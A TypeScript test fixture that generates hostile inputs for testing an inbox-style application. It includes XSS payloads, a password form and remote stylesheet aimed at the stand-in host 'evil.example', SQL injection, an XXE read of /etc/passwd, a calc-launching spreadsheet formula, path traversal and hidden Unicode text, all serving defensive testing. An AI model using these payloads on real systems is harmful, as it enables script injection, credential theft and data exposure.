import { deep } from '../../../../tests/support/randomness.ts'

/** Malicious contents that external users could send, with a label. */
export function hostileContents(): { name: string; text: string }[] {
  return [...scripts, ...hidden(), ...broken(), ...statements]
    .concat(large())
    .flatMap((one, at) => wrapped(one, inTurn(at)))
    .concat(nested())
}

const wrapped = ({ name, text }: { name: string; text: string }, by: typeof wrappings) =>
  by.map((wrap) => ({ name: `${name}, ${wrap.name}`, text: wrap.of(text) }))

/** Each content uses one of the wrappings in turn. */
const inTurn = (at: number) => deep([wrappings[at % wrappings.length] as (typeof wrappings)[number]], wrappings)

const named = (name: string, texts: readonly string[]) => texts.map((text, at) => ({ name: `${name} ${at}`, text }))

const wrappings = [
  { name: 'bare', of: (text: string) => text },
  { name: 'in a sentence', of: (text: string) => `Hello ${text} there, is this still for sale?` },
  { name: 'many times', of: (text: string) => text.repeat(Math.max(2, Math.floor(2_000 / Math.max(1, text.length)))) },
  { name: 'over lines', of: (text: string) => `One\r\n\r\n\r\n\r\n${text}\u2028\u2029\n\n\n\nTwo` },
]

const scripts = named('script', [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  'javascript:alert(document.cookie)',
  '<iframe srcdoc="<script>parent.x=1</script>">',
  '"><style>*{display:none}</style>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '{{constructor.constructor("return process")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: could be mistaken for a template
  '${process.env.SECRET}',
  '<!--#exec cmd="id"-->',
  '<math><mtext><style><img src onerror=alert(1)>',
  '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '[click](javascript:alert(1))',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<object data="javascript:alert(1)"></object>',
  "=cmd|' /C calc'!A0",
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
])

const statements = named('statement', [
  "'; drop table inbox_items; --",
  "' or 1=1 --",
  "\\'); select pg_sleep(10); --",
  "a & b | !c <-> 'd':*",
  "':*A'",
  '%_%',
  '(?:(a+)+)+$',
  '../../etc/passwd',
  '%00%0a%0d',
  'NaN',
  '__proto__',
  'constructor',
])

/** Deeply nested JSON. */
const nested = () =>
  named('deep', [
    '['.repeat(50_000),
    '{"a":'.repeat(50_000),
    '"",'.repeat(100_000),
    '1,'.repeat(100_000),
    '\\'.repeat(100_000),
  ])

const hidden = () =>
  named('hidden', [
    '\u202egnp.exe\u202c',
    '\u2066\u2067\u2068 x \u2069',
    'a\u200b\u200b\u200bb',
    'x\u200d\u200d\u200d\u200dy',
    '\ufeffmark',
    String.fromCodePoint(...[...'ignore'].map((sign) => 0xe0000 + sign.charCodeAt(0))),
    'Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d\u030e',
    'a\u00adb\u00adc',
    '\u061c\u200e\u200f',
    '\u034f\u115f\u1160\u3164\uffa0',
    'H̸̡̪̯ͨ͊̽̅̾̎Ȩ̬̩̾͛ͪ̈́̀́͘',
    '\u{1d173}\u{1d17a}',
    '\u180e\u2060\u2061\u2062\u2063\u2064',
    '\ufff9a\ufffab\ufffb',
    '👩‍👩‍👧‍👦🏳️‍🌈🏴󠁧󠁢󠁥󠁮󠁧󠁿',
    'ر\u200cی\u200cال',
  ])

const broken = () =>
  named('broken', [
    '\ud800',
    '\udc00\ud800',
    'a\ud83db',
    '\u0000',
    'a\u0000b\u0000c',
    '\u0001\u0007\u001b[31mred\u001b[0m',
    '\u0085\u009f',
    '\\u0000\\ud800',
    '\ufffe\uffff',
    '\x7f\x80',
  ])

const large = () =>
  named('large', [
    'x'.repeat(1_000_000),
    'wort '.repeat(200_000),
    '@somebody '.repeat(100_000),
    '#tag'.repeat(200_000),
    'https://example.com/a '.repeat(40_000),
    '字'.repeat(300_000),
    '🙂'.repeat(200_000),
    'e\u0301'.repeat(300_000),
    '\n'.repeat(500_000),
    '\u200d'.repeat(300_000),
    '('.repeat(500_000),
    'aA1!'.repeat(200_000),
    ' '.repeat(900_000),
    'ก'.repeat(300_000),
    '\u0300'.repeat(300_000),
    '\ud800'.repeat(300_000),
    'a.b@c.d '.repeat(100_000),
    '\u202e\u202d'.repeat(200_000),
  ])
